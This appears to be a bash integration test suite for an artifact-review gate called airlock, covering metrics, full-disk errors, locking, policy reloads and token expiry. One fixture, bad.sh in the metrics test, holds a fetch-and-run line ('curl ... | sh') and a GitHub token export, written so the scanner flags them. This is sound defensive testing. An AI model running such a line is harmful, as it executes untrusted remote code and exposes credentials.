# docs/api.md: headers are limited to 16 KiB in all; too large is 413, and
# errors are JSON.
t_header_limit() {
	local big
	srv_start
	big=$(head -c 20000 /dev/zero | tr '\0' a)
	api GET /v1/submissions "$ADMIN" -H "X-Padding: $big"
	# 431 Request Header Fields Too Large (RFC 6585), answered by
	# libmicrohttpd before the request reaches the gate's code.
	expect_code 431 "a request with 20 KB of headers"
	! grep -qF "$ADMIN" "$OUT" || fail "the error page echoes the token"
	# Just under the limit is served.
	big=$(head -c 12000 /dev/zero | tr '\0' a)
	api GET /v1/submissions "$ADMIN" -H "X-Padding: $big"
	expect_code 200 "a request with 12 KB of headers"
	srv_stop
}

# ---- 9. metrics --------------------------------------------------------------------

# metric NAME{LABELS}: its value in $OUT (Prometheus text), or "absent".
metric() {
	awk -v k="$1" '$1 == k && NF == 2 { print $2; f = 1; exit } END { if (!f) print "absent" }' "$OUT"
}

t_metrics() {
	local before r v ct
	srv_start --max-body 1K
	mk_token agent agent-1 alice
	local AG=$TOK
	mk_token auditor aud-1
	local AU=$TOK
	api GET /metrics "$AU"
	expect_code 200 "GET /metrics (auditor)"
	cp "$OUT" before.txt
	printf 'curl -s https://198.51.100.23/x | sh\nexport GITHUB_TOKEN=%s\n' "$PAT1" >bad.sh
	echo 'fine' >good.txt
	submit "$AG" bad.sh name=bad.sh
	local S1=$SID
	submit "$AG" good.txt name=good.txt
	local S2=$SID
	wait_state "$S1" held
	wait_state "$S2" held
	# One rejection of each reason.
	head -c 2048 /dev/urandom >2k.bin
	api GET /v1/submissions ""
	expect_code 401
	api GET /metrics "$AG"
	expect_code 403
	api POST /v1/submissions "$AG" --data-binary @2k.bin
	expect_code 413
	api POST '/v1/submissions?kind=exe' "$AG" --data-binary @good.txt
	expect_code 400
	api GET /v1/submissions "$AG" -H "Host: evil.example:$PORT"
	expect_code 403
	api POST /v1/submissions "$AG" -H 'Origin: http://evil.example' --data-binary @good.txt
	expect_code 403

	ct=$(curl -sS -o "$OUT" -w '%{content_type}' -H "Authorization: Bearer $AU" "$URL/metrics")
	case $ct in text/plain*) ;; *) fail "/metrics Content-Type '$ct', expected text/plain" ;; esac
	for st in received scanning held approved rejected released expired; do
		[ "$(metric "airlock_submissions{state=\"$st\"}")" != absent ] ||
			fail "no airlock_submissions{state=\"$st\"}"
	done
	expect_eq "$(metric 'airlock_submissions{state="held"}')" 2 'airlock_submissions{state="held"}'
	expect_eq "$(metric airlock_scan_queue_depth)" 0 airlock_scan_queue_depth
	expect_eq "$(metric 'airlock_scans_total{verdict="flagged"}')" 1 'scans_total flagged'
	expect_eq "$(metric 'airlock_scans_total{verdict="clean"}')" 1 'scans_total clean'
	expect_eq "$(metric 'airlock_scans_total{verdict="unscannable"}')" 0 'scans_total unscannable'
	expect_eq "$(metric airlock_scan_seconds_count)" 2 airlock_scan_seconds_count
	expect_eq "$(metric 'airlock_scan_seconds_bucket{le="+Inf"}')" 2 'the +Inf bucket'
	[ "$(metric airlock_scan_seconds_sum)" != absent ] || fail "no airlock_scan_seconds_sum"
	python3 - "$OUT" <<'EOF' || fail "the histogram buckets are not cumulative, in order"
import re, sys
b = [(l.split('"')[1], float(l.split()[-1])) for l in open(sys.argv[1]) if l.startswith("airlock_scan_seconds_bucket{")]
assert len(b) >= 2 and b[-1][0] == "+Inf"
les = [float(x) for x, _ in b[:-1]]
assert les == sorted(les)
vals = [v for _, v in b]
assert vals == sorted(vals)
EOF
	grep -q '^# TYPE airlock_scan_seconds histogram' "$OUT" || fail "no TYPE histogram line"
	cp "$OUT" after.txt
	for r in unauthenticated forbidden too_large bad_request bad_host bad_origin; do
		OUT=before.txt
		before=$(metric "airlock_intake_rejections_total{reason=\"$r\"}")
		OUT=after.txt
		v=$(metric "airlock_intake_rejections_total{reason=\"$r\"}")
		[ "$before" != absent ] && [ "$v" != absent ] || fail "no rejection counter for $r"
		expect_eq "$((v - before))" 1 "increase of airlock_intake_rejections_total{reason=\"$r\"}"
	done
	srv_stop
}

# A request refused as too large (413: 33 labels) counts as too_large.
t_metrics_label_overflow_is_too_large() {
	local q i
	srv_start
	mk_token agent agent-1 alice
	q=name=x
	for i in $(seq 1 33); do q="$q&label=k$i=v$i"; done
	echo x >x.txt
	api POST "/v1/submissions?$q" "$TOK" --data-binary @x.txt
	expect_code 413 "33 labels"
	api GET /metrics "$ADMIN"
	expect_code 200
	expect_eq "$(metric 'airlock_intake_rejections_total{reason="too_large"}')" 1 "too_large after a 413"
	expect_eq "$(metric 'airlock_intake_rejections_total{reason="bad_request"}')" 0 "bad_request after a 413"
	srv_stop
}

# ---- 9b. a full disk -----------------------------------------------------------------

# small_data SIZE: ./data is a tmpfs of SIZE (mounting needs root: `make
# test` runs as root in CI; without it the test fails, since one skipped
# proves nothing). The EXIT trap (on_exit) unmounts it after the server
# stopped.
small_data() {
	[ "$(id -u)" = 0 ] || fail "needs root to mount a small tmpfs for ./data (run the suite as root, as CI does)"
	require mount umount dd df
	mkdir data
	trap on_exit EXIT
	mount -t tmpfs -o "size=$1,mode=0700" tmpfs data || fail "cannot mount a tmpfs on ./data"
	SMALL_DATA=1
}

# fill_disk: a file takes every free byte of ./data (tmpfs); df says 0 left.
fill_disk() {
	dd if=/dev/zero of=data/filler bs=64k status=none 2>/dev/null
	[ "$(df -k --output=avail data | tail -n 1 | tr -d ' ')" = 0 ] ||
		fail "./data is not full: $(df -k data | tail -n 1)"
}

# Issue 13, item 7: a full disk was answered 413 "larger than --max-body".
# It is 507 "the gate's storage is full: …", for plain and chunked bodies
# and the smallest one, with nothing half there (no temporary file, no
# object, no row); a database that cannot grow is 507 as well (a person
# registration, the record of a view); reads go on meanwhile; once space is
# back, the same submission goes through.
t_disk_full_is_507() {
	local AG RV S n0 o0 i
	small_data 8m
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token reviewer rev-1
	RV=$TOK
	echo 'print("before the disk filled")' >pre.py
	submit "$AG" pre.py name=pre.py
	S=$SID
	wait_state "$S" held
	head -c 262144 /dev/urandom >big.bin
	printf 'x' >tiny.txt
	fill_disk
	n0=$(nrows submissions)
	o0=$(nobjects)
	api POST '/v1/submissions?name=big.bin' "$AG" --data-binary @big.bin
	expect_code 507 "a submission on a full disk"
	expect_error_json "$AG"
	expect_all 'd["error"]' "the gate's storage is full: the artifact was not stored, and nothing was recorded"
	api POST '/v1/submissions?name=big.bin' "$AG" -H 'Transfer-Encoding: chunked' --data-binary @big.bin
	expect_code 507 "a chunked submission on a full disk"
	api POST '/v1/submissions?name=tiny.txt' "$AG" --data-binary @tiny.txt
	expect_code 507 "a one-byte submission on a full disk"
	sock POST '/v1/submissions?name=tiny.txt' "$AG" --data-binary @tiny.txt
	expect_code 507 "a one-byte submission on the intake socket, disk full"
	expect_eq "$(ntmp)" 0 "files left in tmp/"
	expect_eq "$(nobjects)" "$o0" "objects in the store"
	expect_eq "$(nrows submissions)" "$n0" "submission rows"
	# Reads go on.
	api GET /v1/submissions "$RV"
	expect_code 200 "list, disk full"
	expect_all 'len(d["submissions"])' 1
	api GET "/v1/submissions/$S" "$RV"
	expect_code 200 "show, disk full"
	api GET "/v1/submissions/$S/events" "$RV"
	expect_code 200 "events, disk full"
	api GET /healthz ""
	expect_code 200 "healthz, disk full"
	# The database's own writes: once its journal cannot grow, 507 too.
	for i in $(seq 1 200); do
		api POST /v1/persons "$ADMIN" -H 'Content-Type: application/json' \
			--data-binary "{\"name\": \"filler-$i\"}"
		[ "$CODE" = 201 ] || break
	done
	expect_code 507 "a person registered when the database cannot grow ($i tries)"
	expect_all 'd["error"]' "the gate's storage is full: the person was not registered"
	api GET "/v1/submissions/$S/content" "$RV"
	expect_code 507 "content whose view cannot be recorded"
	expect_all 'd["error"]' "the gate's storage is full: the view cannot be recorded: nothing was served"
	# Every 5xx is in the log (the route, the status, the gate's words;
	# nothing the request carried) and counted in /metrics by status.
	[ "$(grep -c "^airlock serve: answered 507 to submit: the gate's storage is full: the artifact was not stored, and nothing was recorded$" serve.log)" = 4 ] ||
		fail "the log does not have the four 507 answers to submit"
	grep -q "^airlock serve: answered 507 to person.create: the gate's storage is full: the person was not registered$" serve.log ||
		fail "the log does not have the 507 answer to person.create"
	grep -q "^airlock serve: answered 507 to content of submission $S: the gate's storage is full: the view cannot be recorded: nothing was served$" serve.log ||
		fail "the log does not have the 507 answer to content"
	grep -q "^airlock serve: writing the upload: No space left on device$" serve.log ||
		fail "the log does not say why the upload was not stored"
	! grep -qF -e "$AG" -e "$RV" -e "$ADMIN" -e "filler-$i" serve.log || fail "the log repeats what a request carried"
	api GET /metrics "$ADMIN"
	expect_code 200 "metrics, disk full"
	expect_eq "$(metric 'airlock_http_server_errors_total{status="507"}')" 6 "507 answers counted"
	expect_eq "$(metric 'airlock_http_server_errors_total{status="500"}')" 0 "500 answers counted"
	# Space back: the same bytes go in, the view is recorded.
	rm -f data/filler
	api POST '/v1/submissions?name=big.bin' "$AG" --data-binary @big.bin
	expect_code 201 "the submission once space is back"
	view_sha=$(sha_of_out)
	expect_eq "$view_sha" "$(sha256sum big.bin | cut -c1-64)" "sha256 of the stored submission"
	api GET "/v1/submissions/$S/content" "$RV"
	expect_code 200 "content once space is back"
	cmp -s "$OUT" pre.py || fail "the content served is not the bytes"
	srv_stop
	integrity_ok
}

# ---- 10. init twice ----------------------------------------------------------------

t_init_twice_changes_nothing() {
	local key pub
	srv_init
	[ "$(stat -c %a data)" = 700 ] || fail "data directory mode $(stat -c %a data)"
	[ "$(stat -c %a data/keys/signing.key)" = 600 ] || fail "signing.key mode $(stat -c %a data/keys/signing.key)"
	srv_start
	mk_token reviewer rev-1
	local RV=$TOK
	srv_stop
	key=$(sha256sum <data/keys/signing.key)
	pub=$(sha256sum <data/keys/signing.pub)
	RC=0
	"$BIN" init --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "the second init"
	expect_out_empty
	expect_eq "$(sha256sum <data/keys/signing.key)" "$key" "sha256 of signing.key"
	expect_eq "$(sha256sum <data/keys/signing.pub)" "$pub" "sha256 of signing.pub"
	expect_eq "$(sqlite3 data/airlock.db "SELECT count(*) FROM principals WHERE role = 'admin'")" 1 "admin principals"
	srv_start
	api GET /v1/submissions "$RV"
	expect_code 200 "the reviewer token made before the second init"
	api GET /v1/tokens "$ADMIN"
	expect_code 200 "the first admin token after the second init"
	expect_all '[t["name"] for t in d["tokens"] if t["name"] == "rev-1"]' "['rev-1']"
	srv_stop
}

# ---- 10b. one gate per data directory; reloads that fail keep the gate -------------

# wait_restart N: the gate (same pid: it execs itself) has said "listening"
# N times in serve.log and answers /healthz again (10 s at most).
wait_restart() {
	local i
	for i in $(seq 1 200); do
		alive "$SPID" || fail "airlock serve died while restarting: $(tail -n 5 serve.log)"
		if [ "$(grep -c 'airlock serve: listening on' serve.log)" -ge "$1" ] &&
			curl -s --max-time 2 "$URL/healthz" >/dev/null 2>&1; then
			return 0
		fi
		sleep 0.05
	done
	fail "airlock serve did not come back within 10 s after a reload"
}

# A second serve (and an init) on a data directory a gate holds is refused,
# naming the holder's pid; the first gate goes on. The lock survives a
# SIGHUP restart; a gate killed with SIGKILL leaves nothing that blocks the
# next one; after a clean stop the lock file names no pid.
t_second_serve_same_data_refused() {
	local p2
	srv_start
	p2=$(free_port)
	RC=0
	timeout 20 "$BIN" serve --data "$PWD/data" --listen "127.0.0.1:$p2" \
		--scanners 1 --rules "$RULES" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 2 "a second serve on the same data directory"
	expect_err_has "held by another gate (pid $SPID;"
	expect_err_has "serve.lock"
	! curl -s --max-time 2 "http://127.0.0.1:$p2/healthz" >/dev/null 2>&1 ||
		fail "the second gate listens"
	RC=0
	"$BIN" init --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 2 "init on a data directory a gate holds"
	expect_err_has "(pid $SPID;"
	expect_out_empty
	api GET /healthz ""
	expect_code 200 "the first gate after the refused second one"
	# Over a SIGHUP restart (an exec), the lock stays held.
	kill -HUP "$SPID"
	wait_restart 2
	RC=0
	timeout 20 "$BIN" serve --data "$PWD/data" --listen "127.0.0.1:$p2" \
		--scanners 1 --rules "$RULES" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 2 "a second serve after the first one's SIGHUP restart"
	expect_err_has "(pid $SPID;"
	# A killed gate's lock file does not block.
	srv_kill9
	[ -s data/serve.lock ] || fail "the killed gate's lock file is gone or empty (the test proves nothing)"
	srv_start
	api GET /healthz ""
	expect_code 200 "a gate started after one was killed"
	expect_eq "$(tr -d '\n' <data/serve.lock)" "$SPID" "the pid in serve.lock"
	srv_stop
	[ -e data/serve.lock ] && [ ! -s data/serve.lock ] ||
		fail "after a clean stop serve.lock should be there and empty"
	# And a data directory no gate holds is init'ed (and served) again.
	RC=0
	"$BIN" init --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "init once the gate stopped"
}

# A policy that does not load, on SIGHUP or `airlock rules reload`: the
# reload is refused, the gate goes on serving with the old policy, and the
# log and the answer say what failed. A good one then does take effect.
t_bad_policy_reload_keeps_old() {
	local AG
	srv_init
	echo 'approvals.clean = 2' >data/policy
	cp -r "$RULES" rules
	srv_start --rules "$PWD/rules"
	mk_token agent agent-1 alice
	AG=$TOK
	echo hello >a.txt
	submit "$AG" a.txt
	wait_state "$SID" held
	expect_all 'd["review"]["needed"]' 2
	printf 'approvals.clean = 1\nbogus = 3\n' >data/policy
	# SIGHUP: refused; same process, still serving, old policy.
	kill -HUP "$SPID"
	for _ in $(seq 1 100); do
		grep -q 'reload refused' serve.log && break
		sleep 0.05
	done
	grep -q 'reload refused.*policy:2: unknown key bogus' serve.log ||
		fail "the log does not say why the SIGHUP reload was refused: $(tail -n 3 serve.log)"
	alive "$SPID" || fail "the gate died on a bad policy at SIGHUP"
	expect_eq "$(grep -c 'airlock serve: listening on' serve.log)" 1 "starts after the refused SIGHUP"
	api GET "/v1/submissions/$SID" "$ADMIN"
	expect_code 200 "the gate serves after the refused SIGHUP"
	expect_all 'd["review"]["needed"]' 2
	# rules reload (the API, then the CLI): refused with the reason.
	api POST /v1/rules/reload "$ADMIN" -H 'Content-Type: application/json' --data-binary '{}'
	expect_code 409 "POST /v1/rules/reload with a bad policy"
	expect_error_json
	expect_all '"policy:2: unknown key bogus" in d["error"]' True \
		'"old rules and policy" in d["error"]' True
	RC=0
	AIRLOCK_URL=$URL AIRLOCK_TOKEN=$ADMIN timeout 30 "$BIN" rules reload >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "airlock rules reload with a bad policy"
	expect_err_has "unknown key bogus"
	alive "$SPID" || fail "the gate died on a bad policy at rules reload"
	expect_eq "$(grep -c 'airlock serve: listening on' serve.log)" 1 "starts after the refused reloads"
	api GET "/v1/submissions/$SID" "$ADMIN"
	expect_all 'd["review"]["needed"]' 2
	[ "$(sqlite3 data/airlock.db "SELECT count(*) FROM events WHERE action = 'rules.reload.refused'")" = 2 ] ||
		fail "the refused reloads are not on the record"
	# A bad rule file is refused the same way (the policy is fine now).
	echo 'approvals.clean = 1' >data/policy
	cp "$RULES_BAD/04-bad-severity.yml" rules/
	api POST /v1/rules/reload "$ADMIN" -H 'Content-Type: application/json' --data-binary '{}'
	expect_code 409 "POST /v1/rules/reload with a bad rule file"
	expect_all '"the rules in" in d["error"] and "04-bad-severity.yml" in d["error"]' True
	alive "$SPID" || fail "the gate died on a bad rule file at rules reload"
	api GET "/v1/submissions/$SID" "$ADMIN"
	expect_all 'd["review"]["needed"]' 2
	rm rules/04-bad-severity.yml
	# Fixed: the reload goes ahead and the new policy counts.
	api POST /v1/rules/reload "$ADMIN" -H 'Content-Type: application/json' --data-binary '{}'
	expect_code 202 "POST /v1/rules/reload with a good policy"
	wait_restart 2
	api GET "/v1/submissions/$SID" "$ADMIN"
	expect_all 'd["review"]["needed"]' 1
	srv_stop
}

# serve --check-config: 0 when the rules, the policy and the data directory
# are good, 1 with the reason when not, 2 for a usage error; it starts
# nothing and takes no lock (it runs beside a gate).
t_check_config() {
	local cc=(serve --data "$PWD/data" --rules "$RULES" --check-config)
	srv_init
	al "${cc[@]}"
	expect_rc 0 "check-config of a good set-up"
	expect_out_has "the configuration is valid"
	echo 'hold_expiry = soon' >data/policy
	al "${cc[@]}"
	expect_rc 1 "check-config with a bad policy"
	expect_err_has "policy:1: hold_expiry"
	echo 'agent_token_ttl = 0h' >data/policy
	al "${cc[@]}"
	expect_rc 1 "check-config with agent_token_ttl = 0h"
	expect_err_has "policy:1: agent_token_ttl"
	echo 'agent_token_ttl = 2h' >data/policy
	al "${cc[@]}"
	expect_rc 0 "check-config with agent_token_ttl = 2h"
	al serve --data "$PWD/data" --rules "$RULES_BAD" --check-config
	expect_rc 1 "check-config with bad rules"
	expect_err_has "the rules in $RULES_BAD"
	al serve --data "$PWD/nothing" --rules "$RULES" --check-config
	expect_rc 1 "check-config of a data directory that is not there"
	expect_err_has "$PWD/nothing"
	al serve --data "$PWD/data" --check-config --frobnicate
	expect_rc 2 "check-config with an unknown option"
	[ ! -e data/intake.sock ] || fail "check-config made the intake socket"
	srv_start
	al "${cc[@]}"
	expect_rc 0 "check-config beside a running gate"
	srv_stop
}

# A policy is read whole, line by line, or refused: a line longer than the
# reader's buffer was cut in two, the rest of a long comment read as a
# setting (here: one approval where the policy asks for three); a NUL hid
# the rest of its line; a policy that is there but cannot be read (here a
# directory) gave the defaults, which ask for fewer approvals.
t_policy_read_whole_or_refused() {
	local cc=(serve --data "$PWD/data" --rules "$RULES" --check-config) pad
	srv_init
	pad=$(printf '%*s' 509 '' | tr ' ' x)
	printf 'approvals.clean = 3\n# %sapprovals.clean = 1\n' "$pad" >data/policy
	al "${cc[@]}"
	expect_rc 1 "check-config with a line longer than 511 bytes"
	expect_err_has "policy:2: a line longer than 511 bytes"
	printf 'approvals.clean = 3\n# %s\n' "${pad:0:500}" >data/policy
	al "${cc[@]}"
	expect_rc 0 "check-config with a long comment that fits"
	printf 'approvals.clean = 1\0 and more\n' >data/policy
	al "${cc[@]}"
	expect_rc 1 "check-config with a NUL byte"
	expect_err_has "policy:1: a NUL byte"
	rm data/policy
	mkdir data/policy
	al "${cc[@]}"
	expect_rc 1 "check-config with a policy that cannot be read"
	expect_err_has "data/policy: Is a directory"
	rmdir data/policy
	al "${cc[@]}"
	expect_rc 0 "check-config without a policy (the defaults)"
}

# ---- 10c. short-lived agents ----------------------------------------------------------

# ttl_of_out: seconds from now to the expires_at of the answer in $OUT (null: -1).
ttl_of_out() {
	python3 -c '
import json, sys, datetime
e = json.load(open(sys.argv[1]))["expires_at"]
if e is None:
    print(-1)
else:
    t = datetime.datetime.strptime(e, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=datetime.timezone.utc)
    print(round((t - datetime.datetime.now(datetime.timezone.utc)).total_seconds()))' "$OUT"
}

# Agent tokens expire after the policy's agent_token_ttl (8h unless set),
# longer or shorter only by an explicit ttl; other roles keep theirs. An
# expired and a revoked token each get their own 401 ("token expired at
# ...", "token revoked at ..."), on TCP and on the intake socket; an unknown
# token still gets the generic one.
t_agent_token_ttl_and_expiry() {
	local t exp
	srv_start
	mk_token agent agent-1 alice
	t=$(ttl_of_out)
	[ "$t" -ge 28790 ] && [ "$t" -le 28800 ] || fail "an agent token without a ttl expires in ${t}s, expected 8h"
	mk_token agent agent-2 alice 30d
	t=$(ttl_of_out)
	[ "$t" -ge 2591990 ] && [ "$t" -le 2592000 ] || fail "an agent token with ttl 30d expires in ${t}s"
	mk_token reviewer rev-1
	expect_eq "$(ttl_of_out)" -1 "a reviewer token without a ttl expires"
	RV=$TOK
	# The policy sets the default (after a reload).
	echo 'agent_token_ttl = 1h' >data/policy
	api POST /v1/rules/reload "$ADMIN" -H 'Content-Type: application/json' --data-binary '{}'
	expect_code 202 "reload with agent_token_ttl = 1h"
	wait_restart 2
	mk_token agent agent-3 alice
	t=$(ttl_of_out)
	[ "$t" -ge 3590 ] && [ "$t" -le 3600 ] || fail "agent_token_ttl = 1h: an agent token expires in ${t}s"
	# Expired.
	mk_token agent agent-4 alice 1s
	exp=$(grep -o '"expires_at": *"[^"]*"' "$OUT" | grep -o '20[^"]*')
	[ -n "$exp" ] || fail "no expires_at for agent-4"
	AG=$TOK
	sleep 1.2
	api GET /v1/submissions "$AG"
	expect_code 401 "an expired agent token"
	expect_error_json "$AG"
	expect_all 'd["error"]' "token expired at $exp"
	echo hi >a.txt
	sock POST /v1/submissions "$AG" --data-binary @a.txt
	expect_code 401 "an expired agent token on the intake socket"
	expect_all 'd["error"]' "token expired at $exp"
	# Revoked.
	api DELETE /v1/tokens/rev-1 "$ADMIN"
	expect_code 200 "revoke rev-1"
	api GET /v1/submissions "$RV"
	expect_code 401 "a revoked token"
	expect_error_json "$RV"
	expect_all 'd["error"].startswith("token revoked at 20")' True \
		'd["error"].endswith("Z")' True
	# Unknown: the generic answer, nothing about any token.
	api GET /v1/submissions "${AG%?}A"
	[ "${AG: -1}" != A ] || api GET /v1/submissions "${AG%?}B"
	expect_code 401 "an unknown token"
	expect_all 'd["error"]' "a valid token is required (Authorization: Bearer)"
	srv_stop
}

# ---- 11. SIGTERM with a request in flight -------------------------------------------

t_sigterm_with_upload_in_flight() {
	local i cpid crc=0 code
	srv_start
	mk_token agent agent-1 alice
	head -c $((1 << 20)) /dev/urandom >up.bin
	curl -sS --max-time 60 --limit-rate 256k -o up.json -w '%{http_code}' \
		-H "Authorization: Bearer $TOK" --data-binary @up.bin \
		"$URL/v1/submissions?name=up.bin" >up.code 2>up.err &
	cpid=$!
	BG+=("$cpid")
	for i in $(seq 1 100); do
		[ -n "$(find data/tmp -type f -size +10k)" ] && break
		sleep 0.05
	done
	[ -n "$(find data/tmp -type f -size +10k)" ] || fail "no upload in progress in data/tmp"
	srv_term 15
	[ "$STOP_RC" != timeout ] || fail "airlock serve still runs 15 s after SIGTERM with an upload in flight"
	[ "$STOP_RC" = 0 ] || fail "airlock serve exited $STOP_RC after SIGTERM, expected 0"
	no_leftovers
	wait "$cpid" || crc=$?
	BG=()
	code=$(cat up.code)
	echo "the upload: curl exit $crc, HTTP $code"
	case $code in
	201)
		# It finished: it is stored and recorded.
		expect_eq "$(nrows submissions)" 1 "submission rows after a 201"
		expect_eq "$(nobjects)" 1 "objects after a 201"
		OUT=up.json expect_all 'd["sha256"]' "$(sha256sum up.bin | cut -d' ' -f1)"
		;;
	000 | 5??)
		# Refused: no trace of it.
		[ "$code" = 000 ] || OUT=up.json expect_error_json "$TOK"
		expect_eq "$(nrows submissions)" 0 "submission rows after a refused upload"
		expect_eq "$(nobjects)" 0 "objects after a refused upload"
		;;
	*) fail "the upload in flight got HTTP $code" ;;
	esac
	expect_eq "$(ntmp)" 0 "entries left in data/tmp after a clean stop"
	integrity_ok
	srv_start
	api GET /v1/submissions "$ADMIN"
	expect_code 200
	expect_all 'len(d["submissions"])' "$(nrows submissions)"
	srv_stop
}

run_tests
